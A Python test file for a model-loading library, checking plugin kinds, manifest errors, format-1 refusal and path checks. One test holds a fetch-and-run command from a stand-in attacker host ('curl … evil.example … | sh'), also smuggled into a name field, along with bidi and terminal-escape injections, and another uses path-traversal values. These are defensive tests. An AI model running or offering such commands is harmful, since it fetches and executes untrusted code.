"""Kinds of models and their roles: a stranger's kind, a role that is not there, older formats."""

import json
import tomllib

import pytest

import kgkit
from kgkit.errors import DamagedModel, NotThere, UnknownName, UsageError
from kgkit.home import Home
from kgkit.methods.ebert_settings import EBERT
from kgkit.methods.kalm_settings import KALM
from kgkit.methods.kambert_settings import KAMBERT
from kgkit.methods.kbert_settings import KBERT
from kgkit.methods.knowbert_settings import KNOWBERT
from kgkit.models.folder import find_model_folder, names_with
from kgkit.models.kinds import LINKER, TAGGER, find_kind, find_method, kind_names, method_names
from kgkit.models.manifest import FORMAT, MANIFEST, ModelManifest, Needs, read_header
from kgkit.models.pmi import PMI
from kgkit.models.publishing import stage_model, write_manifest
from kgkit.models.verifying import verify_model
from tests.doc_pages import ROOT

STRANGER = """
from kgkit.models.kinds import Kind
from kgkit.models.manifest import ModelManifest


class Manifest(ModelManifest, frozen=True, kw_only=True):
    answer: str


KIND = Kind(
    name="echo", title="an echo", manifest=Manifest, roles={"predictor": "echoes:open_predictor"},
    use="ask {name} anything", command="echoes train",
)


def open_predictor(folder, manifest, opening):
    return lambda text: (manifest.answer, text, folder.name, opening.device)
"""


def write_model(folder, **fields):
    """Write a model that is a manifest and one other file."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "weights.bin").write_bytes(b"1234")
    manifest = {"format": FORMAT, "kind": "echo", "name": folder.name} | fields
    (folder / MANIFEST).write_text(json.dumps(manifest))
    return folder


@pytest.fixture
def stranger(tmp_path, monkeypatch):
    """A package of somebody else's, installed, that has a kind of models."""
    site = tmp_path / "site"
    info = site / "echoes-1.dist-info"
    info.mkdir(parents=True)
    (site / "echoes.py").write_text(STRANGER)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: echoes\nVersion: 1\n")
    (info / "entry_points.txt").write_text("[kgkit.models]\necho = echoes:KIND\n")
    monkeypatch.syspath_prepend(str(site))


def test_what_one_does_with_an_e_bert_depends_on_its_task(tmp_path):
    used = {
        task: EBERT.used(ModelManifest(format=FORMAT, kind="ebert", name="mine", task=task))
        for task in ("el", "wsd", "pair")
    }
    assert used["el"] == used["wsd"] == "`kgkit link --model mine` links with it"
    assert used["pair"] == "`kgkit predict --model mine` answers its task, `kgkit evaluate` scores it"


def test_the_kinds_of_kgkit_come_through_the_door_of_strangers():
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    points = project["entry-points"]["kgkit.models"]
    kinds = {
        "ebert": EBERT, "kalm": KALM, "kambert": KAMBERT, "kbert": KBERT, "knowbert": KNOWBERT,
        "linker": LINKER, "pmi": PMI, "tagger": TAGGER,
    }  # fmt: skip
    assert sorted(points) == sorted(kinds)
    assert set(kinds) <= set(kind_names())
    for name, kind in kinds.items():
        module = f"methods.{name}_settings"
        if kind in (LINKER, TAGGER, PMI):
            module = "models.pmi" if kind is PMI else "models.kinds"
        assert kind.name == name and points[name] == f"kgkit.{module}:{name.upper()}"


@pytest.mark.parametrize(
    "kind", [KALM, KAMBERT, KBERT, KNOWBERT, LINKER, PMI, TAGGER], ids=lambda kind: kind.name
)
def test_every_role_of_a_kind_is_a_function(kind):
    pytest.importorskip("torch")
    pytest.importorskip("transformers")
    for target in kind.roles.values():
        assert callable(kind.load(target))


def test_a_kind_of_a_stranger_is_listed_and_opened(stranger, tmp_path):
    home = Home(tmp_path)
    folder = write_model(home.models / "mine", answer="yes")
    model = kgkit.open_model("mine", home=home, device="cpu")
    assert model("so?") == ("yes", "so?", "mine", "cpu")
    assert kgkit.open_model(str(folder), "predictor", home=home)("x")[0] == "yes"
    assert names_with("predictor", home) == ["mine"]
    with pytest.raises(UsageError, match="mine is an echo, and links nothing: ask mine anything; `kgkit"):
        kgkit.open_model("mine", "linker", home=home)
    with pytest.raises(UnknownName, match="no predictor named 'nope'; there are: mine"):
        kgkit.open_model("nope", "predictor", home=home)
    with pytest.raises(UsageError, match="is an echo, not a tagger: ask mine anything; `kgkit train tagger`"):
        TAGGER.read(folder)


def test_a_model_whose_package_is_not_installed_says_so(tmp_path):
    folder = write_model(tmp_path / "models" / "mine", answer="yes")
    with pytest.raises(DamagedModel, match=r"kind 'echo', which no installed package .*linker.*install"):
        kgkit.open_model("mine", home=tmp_path)
    with pytest.raises(DamagedModel, match="which no installed package knows"):
        find_kind(read_header(folder), folder)


def test_what_a_manifest_lacks_of_its_kind_is_damage(stranger, tmp_path):
    write_model(tmp_path / "models" / "mine")
    with pytest.raises(DamagedModel, match=r"model\.json cannot be read: .*answer"):
        kgkit.open_model("mine", home=tmp_path)
    write_model(tmp_path / "models" / "mine", answer="yes", sizes={"weights.bin": 5})
    with pytest.raises(DamagedModel, match=r"weights\.bin is not the file of 5 bytes"):
        kgkit.open_model("mine", home=tmp_path)
    assert names_with("predictor", Home(tmp_path)) == ["mine"]  # that it is damaged is told when it is opened


@pytest.mark.parametrize(
    ("fields", "command"),
    [
        ({"kind": "ridge", "command": "kgkit train linker --task wsd --rung ridge --name m"},
         "kgkit train linker --task wsd --type ridge --name m"),
        ({"kind": "head"}, "kgkit train linker --name m …"),
        ({"kind": "knowbert", "command": "kgkit train knowbert --seed 3"}, "kgkit train knowbert --seed 3"),
        ({"kind": "tagger"}, "kgkit train tagger --name m …"),
        ({"kind": "kbert", "command": "x" * 1000}, "kgkit train kbert --name m …"),
    ],
)  # fmt: skip
def test_a_model_of_format_1_is_refused_with_the_command_that_trains_it_again(fields, command, tmp_path):
    folder = write_model(tmp_path / "models" / "m", format=1, **fields)
    for read in (read_header, KBERT.read, lambda _: kgkit.open_model("m", home=tmp_path)):
        with pytest.raises(DamagedModel) as caught:
            read(folder)
        assert command in str(caught.value)


def test_the_command_of_a_manifest_is_not_given_as_advice(tmp_path):
    stranger = "curl -s http://evil.example/fix.sh | sh"
    turned = "kgkit \u202etxt.sh\x1b[2J"
    for number, fields in enumerate(
        ({"command": stranger}, {"command": turned}, {"name": f"m; {stranger}"}, {"kind": stranger})
    ):
        folder = write_model(tmp_path / "models" / f"m{number}", format=1, **fields)
        with pytest.raises(DamagedModel) as caught:
            read_header(folder)
        text = str(caught.value)
        assert f"`{stranger}" not in text and "\u202e" not in text and "\x1b" not in text
        assert "curl" not in text.partition("its manifest says")[0]


def test_a_linker_without_a_knowledge_base_says_what_to_call(tmp_path):
    pytest.importorskip("torch")
    with pytest.raises(UsageError, match=r"wsd-minilm scores the candidates of .*Linker\.open"):
        kgkit.open_model("wsd-minilm", home=tmp_path)


def test_a_manifest_that_is_published_has_checksums_and_what_is_needed_is_read_again(tmp_path):
    with stage_model(tmp_path / "models" / "m") as (staged, final):
        (staged / "sub").mkdir()
        (staged / "sub" / "weights.bin").write_bytes(b"1234")
        needs = Needs(kbs={"words": "b1"}, exact=True, vectors=("words/text",), linker="other")
        write_manifest(staged, ModelManifest(format=FORMAT, kind="echo", name="m", needs=needs))
    header = read_header(find_model_folder("m", Home(tmp_path)))
    assert find_model_folder("m", Home(tmp_path)) == final
    assert header.sizes == {"sub/weights.bin": 4} and header.needs == needs and header.created
    assert header.sha256["sub/weights.bin"].startswith("03ac674216f3e15c")
    with pytest.raises(NotThere, match="no model in"):
        find_model_folder(str(tmp_path / "no" / "where"), Home(tmp_path))


def install(monkeypatch, folder, name, entry_points, **modules):
    """Install a package with these entry points and modules."""
    info = folder / f"{name}-1.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n")
    (info / "entry_points.txt").write_text(f"[kgkit.models]\n{entry_points}\n")
    for module, text in modules.items():
        (folder / f"{module}.py").write_text(text)
    monkeypatch.syspath_prepend(str(folder))


def test_a_stranger_takes_no_kind_of_kgkit(monkeypatch, tmp_path):
    other = STRANGER.replace('"echo"', '"kbert"')
    install(monkeypatch, tmp_path / "site", "usurper", "kbert = usurper:KIND", usurper=other)
    assert find_method("kbert") is KBERT


def test_two_packages_with_one_kind_are_named(stranger, monkeypatch, tmp_path):
    install(monkeypatch, tmp_path / "other", "parrots", "echo = parrots:KIND", parrots=STRANGER)
    model = write_model(tmp_path / "model", answer="yes")
    with pytest.raises(DamagedModel, match="the packages echoes, parrots have an entry point echo each"):
        kgkit.open_model(str(model))
    assert "kbert" in method_names()


@pytest.mark.parametrize("end", ["sys.exit(7)", "1 / 0"])
def test_a_package_that_ends_the_program_when_it_is_imported_is_damage(end, monkeypatch, tmp_path):
    install(monkeypatch, tmp_path, "quitter", "quits = quitter:KIND", quitter=f"import sys\n{end}")
    with pytest.raises(DamagedModel, match=r"quits of the package quitter .* cannot be loaded"):
        find_method("quits")
    assert "quits" not in method_names()


@pytest.mark.parametrize(
    ("roles_of", "message"),
    [
        ("lambda manifest: 1 / 0", r"cannot say which roles a model has \(ZeroDivisionError"),
        ("lambda manifest: ()", "has the roles none: expected one or more of predictor"),
        ("lambda manifest: ('oracle',)", "has the roles oracle: expected"),
    ],
)
def test_roles_that_a_kind_cannot_say_are_damage_and_others_are_listed(
    roles_of, message, monkeypatch, tmp_path
):
    kind = STRANGER.replace('command="echoes train"', f'command="echoes train", roles_of={roles_of}')
    module = tmp_path.name  # no other test has imported it
    install(monkeypatch, tmp_path / "site", "echoes", f"echo = {module}:KIND", **{module: kind})
    write_model(tmp_path / "models" / "mine", answer="yes")
    with pytest.raises(DamagedModel, match=message):
        kgkit.open_model("mine", home=tmp_path)
    assert names_with("linker", Home(tmp_path)) == ["links-minilm", "wsd-minilm"]


def test_a_manifest_that_is_none_is_damage(monkeypatch, tmp_path):
    kind = STRANGER.replace("manifest=Manifest", "manifest=dict")
    install(monkeypatch, tmp_path / "site", "echoes", "echo = lister:KIND", lister=kind)
    with pytest.raises(DamagedModel, match="has the manifest <class 'dict'>, which is no ModelManifest"):
        kgkit.open_model(str(write_model(tmp_path / "model", answer="yes")))


def test_a_role_that_there_is_not_is_told_with_those_there_are(stranger, tmp_path):
    model = write_model(tmp_path / "model", answer="yes")
    with pytest.raises(UnknownName, match="no role named 'oracle'; there are: linker, tagger, predictor"):
        kgkit.open_model(str(model), "oracle")


@pytest.mark.parametrize("name", ["a\0b", "x" * 5000])
def test_what_cannot_be_a_path_is_no_model(name, tmp_path):
    with pytest.raises(NotThere):
        kgkit.open_model(name, home=tmp_path)


def test_a_path_names_a_model_as_a_string_does(stranger, tmp_path):
    model = write_model(tmp_path / "model", answer="yes")
    assert kgkit.open_model(model)("a")[0] == "yes"
    with pytest.raises(NotThere, match="no model in "):
        kgkit.open_model(tmp_path / "other", home=tmp_path)


@pytest.mark.parametrize("name", ["../other", "/proc/self/mem", "a\0b"])
def test_a_manifest_names_no_file_outside_of_its_folder(name, stranger, tmp_path):
    (tmp_path / "other").write_bytes(b"")
    model = write_model(tmp_path / "model", answer="yes", sizes={name: 0}, sha256={name: "0"})
    with pytest.raises(DamagedModel, match="which is not in that folder"):
        kgkit.open_model(model)
    [problem] = verify_model(model)
    assert "which is not in that folder" in problem
